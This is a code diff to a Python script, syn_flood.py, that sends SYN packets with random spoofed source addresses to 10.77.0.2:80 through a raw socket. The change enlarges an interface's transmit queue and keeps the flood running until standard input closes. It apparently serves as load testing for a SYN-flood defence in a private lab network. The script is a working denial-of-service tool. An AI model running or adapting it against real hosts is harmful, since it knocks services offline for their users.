@@ -1,8 +1,11 @@
 # SPDX-License-Identifier: Apache-2.0
-"""Floods 10.77.0.2:80 with SYNs from random addresses, and says when it began and ended.
+"""Floods 10.77.0.2:80 with SYNs from random addresses, so many at least and until standard input ends; says when it
+begins, and at the end how many were sent and at which rate.
   syn_flood.py SYNS PER-SECOND"""
 
+import fcntl
 import random
+import select
 import socket
 import struct
 import sys
@@ -11,6 +14,7 @@ import time
 from raw_tcp import SYN, checksum_words, fold, packet
 
 BURST = 50
+SIOCSIFTXQLEN = 0x8943  # <linux/sockios.h>
 
 
 def syns(count):
@@ -28,19 +32,28 @@ def syns(count):
             "!H", 0xFFFF - fold(total)) + template[38:]
 
 
+def lengthen_queue(device, packets):
+    """Packets that wait for Synfin to be scheduled; with the usual 500 some are lost on a busy machine."""
+    request = struct.pack("16si20x", device.encode(), packets)
+    fcntl.ioctl(socket.socket(), SIOCSIFTXQLEN, request)
+
+
 def main():
     count, rate = int(sys.argv[1]), int(sys.argv[2])
+    lengthen_queue("synfin0", 10_000)
     out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     packets = list(syns(count))
     print("begins", flush=True)
     begin = time.monotonic()
-    for first in range(0, count, BURST):
-        early = begin + first / rate - time.monotonic()
+    sent = 0
+    while sent < count or not select.select([sys.stdin], [], [], 0)[0]:
+        early = begin + sent / rate - time.monotonic()
         if early > 0:
             time.sleep(early)
-        for data in packets[first:first + BURST]:
+        for data in packets[sent % count:sent % count + BURST]:
             out.sendto(data, ("10.77.0.2", 0))
-    print(f"{count / (time.monotonic() - begin):.0f} SYNs a second")
+        sent += BURST
+    print(sent, round(sent / (time.monotonic() - begin)))
 
 
 if __name__ == "__main__":
